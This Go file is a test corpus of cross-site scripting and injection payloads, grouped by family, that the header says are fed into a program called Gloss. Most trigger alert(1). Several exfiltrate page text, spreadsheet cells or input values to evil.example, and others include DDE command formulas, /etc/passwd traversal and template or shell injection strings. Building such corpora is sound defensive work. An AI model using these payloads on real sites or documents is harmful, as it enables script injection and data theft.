// Package xsscorpus is a corpus of texts that would be more than text if they were
// ever taken for markup, for an attribute, for an address, for a format or for a
// template. Tests put each of them through every way into Gloss; no program
// imports it. All of them are written for Gloss, after the families that guides
// to cross-site scripting describe. What runs calls alert; what loads asks the
// host evil.example.
package xsscorpus

import (
	"fmt"
	"net/url"
	"strings"
)

// Family is a group of texts that attack in one way.
type Family struct {
	Name  string
	Texts []string
}

// Texts returns every text once, in an order that stays.
func Texts() []string {
	var out []string
	seen := map[string]bool{}
	for _, f := range Families() {
		for _, t := range f.Texts {
			if !seen[t] {
				seen[t] = true
				out = append(out, t)
			}
		}
	}
	return out
}

// Families returns the corpus.
func Families() []Family {
	return []Family{
		{"elements", elements()}, {"handlers", handlers()}, {"attributes", attributes()}, {"ends of elements", ends()}, {"SVG and MathML", foreign()},
		{"markup that changes when it is parsed twice", mutations()}, {"addresses", addresses()}, {"encodings", encodings()}, {"entities", entities()},
		{"characters that are not seen", unseen()}, {"CSS", styles()}, {"JSON and scripts", scripts()}, {"Markdown", markdowns()}, {"templates", templates()},
		{"names of properties", properties()}, {"formulas", formulas()}, {"formats", formats()},
	}
}

// each fills each of the words into a form.
func each(form string, words ...string) []string {
	var out []string
	for _, w := range words {
		out = append(out, strings.ReplaceAll(form, "@", w))
	}
	return out
}

func elements() []string {
	out := each(`<@ src="https://evil.example/@"></@>`, "iframe", "frame", "embed", "script", "audio", "video", "source", "track", "bgsound", "input type=image", "portal")
	out = append(out, each(`<@>alert(1)</@>`, "script", "SCRIPT", "ScRiPt", "script type=module", "script async", "script/x", "script\n", "script\t", "script\f", "script language=vbscript", "svg><script", "math><script", "noscript><script", "template><script", "style><script", "xmp><script")...)
	return append(out,
		`<img src=x>`, `<object data="https://evil.example/x"></object>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<applet code="https://evil.example/x">`,
		`<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=import href="https://evil.example/x">`, `<link rel=prefetch href="https://evil.example/x">`, `<link rel=preconnect href="https://evil.example">`, `<link rel=dns-prefetch href="//evil.example">`, `<link rel=manifest href="https://evil.example/x">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv="refresh" content="0;javascript:alert(1)">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<meta http-equiv="Set-Cookie" content="a=b">`,
		`<base href="https://evil.example/">`, `<base target="_top">`, `<form action="https://evil.example/"><button>Go</button></form>`, `<form action="javascript:alert(1)"><input type=submit></form>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<isindex action="javascript:alert(1)" type=image>`, `<marquee onstart=alert(1)>x</marquee>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src="javascript:alert(1)"></iframe>`, `<frameset onload=alert(1)>`, `<dialog open onclose=alert(1)>x</dialog>`, `<template shadowrootmode=open><script>alert(1)</script></template>`, `<slot onslotchange=alert(1)>`,
		`<a href="https://evil.example/" ping="https://evil.example/p">x</a>`, `<keygen autofocus onfocus=alert(1)>`, `<script src=//evil.example/x.js></script>`, `<script src="data:text/javascript,alert(1)"></script>`, `<script type="importmap">{"imports":{"x":"https://evil.example/x"}}</script>`, `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>`,
	)
}

func handlers() []string {
	var out []string
	for _, h := range []string{
		"onload", "onerror", "onclick", "onfocus autofocus tabindex=0", "onblur", "onmouseover", "onmouseenter", "onpointerdown", "onpointerenter", "onkeydown", "oninput", "onchange", "ontoggle", "onbeforetoggle",
		"onanimationstart", "onanimationend", "ontransitionend", "ontransitionrun", "onscroll", "onscrollend", "onwheel", "oncopy", "oncut", "onpaste", "onbeforeinput", "onselectstart", "onselectionchange", "oncontextmenu", "onauxclick",
		"ondragstart", "ondrop", "onsubmit", "oninvalid", "onformdata", "onreset", "onhashchange", "onpopstate", "onpageshow", "onmessage", "onunhandledrejection", "onbeforeprint", "onresize", "oncontentvisibilityautostatechange", "onsecuritypolicyviolation",
	} {
		name, more, _ := strings.Cut(h, " ")
		out = append(out, fmt.Sprintf("<x %s=alert(1) %s>x</x>", name, more))
	}
	return append(out,
		`<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"`, `<img src=x oNeRrOr=alert(1)>`, "<img src=x onerror\n=\nalert(1)>", `<img/src=x/onerror=alert(1)>`, "<img src=x onerror=alert`1`>", `<img src=x onerror=window['al'+'ert'](1)>`, `<img src=x onerror=&#97;lert(1)>`,
		`<img src=x onerror=eval(atob('YWxlcnQoMSk='))>`, `<img src=x:alert(1) onerror=eval(src)>`, `<img src=x onerror=location='javascript:alert%281%29'>`, `<img src=x onerror=import('https://evil.example/x.js')>`, `<img src=x onerror=fetch('https://evil.example/?'+document.body.textContent)>`, `<img srcset="https://evil.example/x 1x" onload=alert(1)>`,
		`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<details open ontoggle=alert(1)><summary>x</summary></details>`, `<video autoplay onplay=alert(1)><source src=x onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<a autofocus onfocus=alert(1) href=x>x</a>`, `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>`,
	)
}

func attributes() []string {
	out := each(`"@onmouseover="alert(1)`, " ", "/", "\t", "\n", "\f", "\r")
	out = append(out, each(`'@onfocus='alert(1)' autofocus x='`, " ", "/", "\t", "\n")...)
	return append(out,
		`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, "`><script>alert(1)</script>", `"><img src=x onerror="alert(1)">`, `' onload='alert(1)' x='`, `\" onfocus=\"alert(1)\" autofocus=\"`, `\" onfocus=alert(1) \"`, `" style="background:url(https://evil.example/x)"`, `" formaction="javascript:alert(1)"`,
		`" srcdoc="<script>alert(1)</script>"`, `x" id="gloss" class="bar`, `" data-at="0" data-mark="x`, `x onclick=alert(1)`, `x/onclick=alert(1)//`, `"-alert(1)-"`, `'-alert(1)-'`, `" accesskey="x" onclick="alert(1)`, `en" onclick="alert(1)`, `urn:x" onfocus="alert(1)" tabindex="0`, `&quot; onclick=&quot;alert(1)`, `&#34; onclick=&#34;alert(1)`, `" aria-labelledby="failure`, `" is="x-y`, `" slot="x`, `" nonce="x`, `" part="x" exportparts="x`, `" popover="auto" autofocus="`,
	)
}

func ends() []string {
	var out []string
	for _, tag := range []string{"textarea", "title", "script", "style", "noscript", "template", "select", "iframe", "xmp", "noembed", "noframes", "plaintext", "article", "main", "body", "html", "head", "table", "button", "dialog", "svg", "option", "a", "p", "mark", "!--", "![CDATA["} {
		out = append(out, "</"+tag+"><svg onload=alert(1)>")
	}
	return append(out, `--><script>alert(1)</script>`, `--!><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<!--><script>alert(1)</script>`, `<!-- --!><img src=x onerror=alert(1)>`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/x">]><x>&y;</x>`, `<%<script>alert(1)</script>%>`, `</script x><img src=x onerror=alert(1)>`, "</script\n><img src=x onerror=alert(1)>", `<!--<script>`, `</br><script>alert(1)</script>`)
}

func foreign() []string {
	return []string{
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script href="https://evil.example/x.js"></script></svg>`, `<svg><script xlink:href="data:,alert(1)"></script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set onbegin=alert(1) attributeName=x to=y>`, `<svg><image href="https://evil.example/x.svg">`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">`, `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`, `<svg><style>@import 'https://evil.example/x.css';</style></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`, `<svg><feImage href="https://evil.example/x"></svg>`, `<svg><discard onbegin=alert(1)>`, `<svg><title><script>alert(1)</script></title></svg>`, `<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
		`<math href="javascript:alert(1)">x</math>`, `<math><mtext><script>alert(1)</script></mtext></math>`, `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`, `<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>`,
	}
}

func mutations() []string {
	var out []string
	for _, outer := range []string{"noscript", "style", "xmp", "title", "textarea", "noembed"} {
		out = append(out, fmt.Sprintf(`<%[1]s><p title="</%[1]s><img src=x onerror=alert(1)>">`, outer))
		out = append(out, fmt.Sprintf(`<svg></p><%[1]s><a id="</%[1]s><img src=1 onerror=alert(1)>">`, outer))
	}
	return append(out,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg><p><style><g title="</style><img src onerror=alert(1)>">`, "<img alt=\"``onerror=alert(1)\">", `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<x/><title>&lt;/title&gt;&lt;img src=1 onerror=alert(1)&gt;`, `<table><tr><td><svg><desc><table><tr><td><script>alert(1)</script>`, `<a><b><a><script>alert(1)</script>`, `<select><template><script>alert(1)</script></template></select>`, `<select><style></select><img src=x onerror=alert(1)></style>`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<p id="<!--"><script>alert(1)</script>-->`,
		`<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script<script>>alert(1)</script>`, `<img """><script>alert(1)</script>">`, `<img src="x`+"`"+`<script>alert(1)</script>"`+"`"+`>`, `<b <script>alert(1)</script>0`, `<iframe/src/="data:text/html,<svg onload=alert(1)>">`, `<a href="x"y"onclick=alert(1)>x</a>`,
	)
}

func addresses() []string {
	out := each(`@alert(1)`, "javascript:", "JavaScript:", "JAVASCRIPT:", "java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:", " javascript:", "javascript :", "javascript&colon;", "javascript&#58;", "javascript&#x3A;", "&#106;avascript:", "&#x6A;avascript:", "javascript:/*", "javascript://%0a", "javascript://evil.example/%0d", "vbscript:", "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "%6Aavascript:", "javascript%3A", "\u00a0javascript:", "\ufeffjavascript:", "java\u00adscript:", "ｊavascript:", "javas\u200dcript:")
	for _, scheme := range []string{"data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "data:text/xml,", "data:application/xhtml+xml,", "data:,", "DATA:text/html,", "data:text/html;charset=utf-7,"} {
		out = append(out, scheme+"<script>alert(1)</script>")
	}
	return append(out,
		"blob:https://evil.example/1", "filesystem:https://evil.example/x", "file:///etc/passwd", "about:blank#<script>alert(1)</script>", "intent://evil.example#Intent;scheme=http;end", "ms-word:ofe|u|https://evil.example/x", "chrome://settings", "//evil.example/x", "///evil.example", `\\evil.example\x`, `/\evil.example`, "https:evil.example", "https:///evil.example/", "https://evil.example\\@example.org/", "https://example.org@evil.example/", "https://example.org%00.evil.example/", "https://evil.example/\"onclick=\"alert(1)", "https://evil.example/'><script>alert(1)</script>", "https://evil。example/", "https://[::1]:80/", "https://evil.example:99999/", "https://exa\u202egro.lpm/", "mailto:a@evil.example?body=<script>alert(1)</script>", "mailto:javascript:alert(1)", "tel:+1;javascript:alert(1)", "ws://evil.example/", "ftp://evil.example/x",
		"https://evil.example/#:~:text=x", "?article=x&article=<script>alert(1)</script>", "?safe&shared=../../x", "#<img src=x onerror=alert(1)>", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00<script>alert(1)</script>",
	)
}

func encodings() []string {
	const plain = `<script>alert(1)</script>`
	return []string{
		url.QueryEscape(plain), url.QueryEscape(url.QueryEscape(plain)), `\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`, `\74script\76alert(1)\74/script\76`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `%u003Cscript%u003Ealert(1)%u003C/script%u003E`, "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
		"＜script＞alert(1)＜/script＞", "﹤script﹥alert(1)﹤/script﹥", "‹script›alert(1)‹/script›", "<\u017fcript>alert(1)</\u017fcript>", "<\u0130mg src=x onerror=alert(1)>", "\ufeff<script>alert(1)</script>", "=3Cscript=3Ealert(1)=3C/script=3E", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "%C0%BCscript%C0%BEalert(1)", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", `\U0000003Cscript>alert(1)</script>`, `{\rtf1 <script>alert(1)</script>}`,
	}
}

func entities() []string {
	out := each(`&lt@script&gt@alert(1)&lt@/script&gt@`, ";", "")
	out = append(out, each(`@script>alert(1)@/script>`, "&#60;", "&#060;", "&#0000060;", "&#x3c;", "&#X3C;", "&#x00003c;", "&LT;", "&LT", "&amp;lt;", "&#38;#60;", "&NewLine;<")...)
	return append(out, `<a href="&#x6A;&#x61;vascript:alert(1)">x</a>`, `<a href="java&Tab;script:alert(1)">x</a>`, `<a href="java&NewLine;script&colon;alert&lpar;1&rpar;">x</a>`, `&lt;b&gt; &amp;amp; &#60;i&#62; &quot;`, `&#0;&#1;&#xD800;&#x110000;&#99999999999;`, `&notit; &unknown; &`, `&apos;&quot;&grave;&#39;&#34;`)
}

func unseen() []string {
	var out []string
	for _, c := range []string{"\u202e", "\u2066", "\u2069\u202c", "\u200b", "\u200d", "\u2060", "\u00ad", "\ufeff", "\u0085", "\u2028", "\u2029", "\u0001", "\u000b", "\u001b[31m", "\u007f", "\u009f", "\u061c", "\ufff9\ufffb", "\U000e0041", "\uffff"} {
		out = append(out, "<scr"+c+"ipt>alert(1)</script>", c+"<img"+c+"src=x onerror=alert(1)>")
	}
	return append(out, "<\x00script>alert(1)</script>", "<img src=x one\x00rror=alert(1)>", "\x00", "a\x00b<script>alert(1)</script>", "`\u202e\u2066 right to left", strings.Repeat("\u0301", 60)+"<b>", strings.Repeat("\u202e", 30)+"<i>")
}

func styles() []string {
	return []string{
		`<style>*{background:url(https://evil.example/x)}</style>`, `<style>@import "https://evil.example/x.css";</style>`, `<style>@font-face{font-family:x;src:url(https://evil.example/x)}*{font-family:x}</style>`, `<p style="background:url(https://evil.example/x)">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>`, `<p style="-moz-binding:url(https://evil.example/x)">x</p>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
		`<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`, `}*{background:url(https://evil.example/x)}`, `;background:url(https://evil.example/x)`, `red;}</style><script>alert(1)</script>`, `url("javascript:alert(1)")`, `\3c script\3e alert(1)\3c /script\3e`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>`, `<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>`, `--x: url(https://evil.example/x)`, `image-set("https://evil.example/x" 1x)`,
	}
}

func scripts() []string {
	return []string{
		`";alert(1);//`, `';alert(1);//`, "`;alert(1);//", `\";alert(1);//`, `\\";alert(1);//`, `"+alert(1)+"`, "${alert(1)}", `"}});alert(1);({"x":{"y":"`, `"},"__proto__":{"polluted":1},"x":{"y":"`, `</script><script>alert(1)</script>`, `"</script><script>alert(1)</script>`, "\u2028alert(1)//", "\u2029alert(1)//", `/*</script>*/alert(1)`, `-->alert(1)`, `<!--alert(1)`, `\u0022;alert(1);//`, `\`, `\\`, `"`, `'`, `""`, `"\`, `{"@context":"https://evil.example/x"}`, `[]`, `null`, `NaN`, `1e999`, `\ud800`, `{"type":"Annotation","id":"javascript:alert(1)"}`, `)]}',alert(1)`, `eval("alert(1)")`, `setTimeout("alert(1)")`, `Function("alert(1)")()`, `import("https://evil.example/x.js")`, `{"a":{"a":{"a":{"a":{}}}}}`,
	}
}

func markdowns() []string {
	return []string{
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](<javascript:alert(1)>)`, `[x]( javascript:alert(1))`, "[x](java\tscript:alert(1))", `[x](data:text/html,<script>alert(1)</script>)`, `![x](https://evil.example/x.png)`, `![x](x"onerror="alert(1))`, `[x]: javascript:alert(1)`, `<javascript:alert(1)>`, `<https://evil.example/"onclick="alert(1)>`, "```\n</code><script>alert(1)</script>\n```", "`<script>alert(1)</script>`", `<div markdown="1"><script>alert(1)</script></div>`, `[a](https://evil.example "x" onclick="alert(1)")`, `[[x|javascript:alert(1)]]`, `| a | <script>alert(1)</script> |`, "# <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", `- [ ] <script>alert(1)</script>`, `[^1]: <script>alert(1)</script>`, `\<script>alert(1)</script>`, "---\ntitle: <script>alert(1)</script>\n---", `$\href{javascript:alert(1)}{x}$`, `:::{.x onclick="alert(1)"}`, `<!-- --><script>alert(1)</script>`,
	}
}

func templates() []string {
	return []string{
		`{{constructor.constructor('alert(1)')()}}`, `{{.}}`, `{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `<#assign x="freemarker">`, `{% import os %}`, `[[${7*7}]]`, `@(7*7)`, `*{7*7}`, `{{"<script>alert(1)</script>"|safe}}`, `{{template "x"}}`, `{{printf "%s" .}}`, `%s %d %!v(MISSING) %n`, `%[1]*.[2]*f`, `<x ng-app ng-csp>{{$on.curry.call().alert(1)}}</x>`, `<p v-html="'<img src=x onerror=alert(1)>'">`, `<p x-data x-html="'<img src=x onerror=alert(1)>'">`, `<p data-bind="html:'<script>alert(1)</script>'">`, `<p hx-get="https://evil.example/x" hx-trigger="load">`, `{{version}}`, `{{base}}`, `{/*files*/}`, `$(alert 1)`, "`id`", `;id`, `|id`, `$&`, `$1`, `\1`,
	}
}

func properties() []string {
	return []string{"__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "innerHTML", "gloss", "article", "failure", "bundled", "editor", "margin", "notice", "body", "documentElement", "location", "cookie", "localStorage", "undefined", "then", "length", "0", "-1", "constructor.prototype", "__proto__[x]", "urn:uuid:__proto__"}
}

func formulas() []string {
	out := each(`@HYPERLINK("https://evil.example/?"&A1,"x")`, "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝")
	return append(out, `=cmd|' /C calc'!A0`, `=IMPORTXML("https://evil.example/x","//a")`, `=WEBSERVICE("https://evil.example/")`, `=IMAGE("https://evil.example/x")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `";=1+1;"`, "\"\n=1+1", "a,b\"\r\n=1+1", `=DDE("cmd";"/C calc";"x")`)
}

func formats() []string {
	return []string{
		"Title: <script>alert(1)</script>", "URL: javascript:alert(1)", "Language: en\" onclick=\"alert(1)", "Author: </textarea><script>alert(1)</script>", "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>", "Content-Type: text/html\n\n<script>alert(1)</script>", "--boundary\n<script>alert(1)</script>", "<?php alert(1); ?>", "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>", "%PDF-1.7 <script>alert(1)</script>", "GIF89a/*<script>alert(1)</script>*/=1;", "PK\x03\x04<script>alert(1)</script>", "#!/bin/sh\nalert 1", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "<html><body onload=alert(1)>", "<!doctype html><script>alert(1)</script>", "<rss><script>alert(1)</script></rss>", "BEGIN:VCARD\nURL:javascript:alert(1)", "con.txt", "a/b\\c:d*e?f\"g<h>i|j", "\u2026" + strings.Repeat("<", 500), strings.Repeat("<b>", 300), strings.Repeat("\"'", 300), strings.Repeat("&lt;", 200),
	}
}
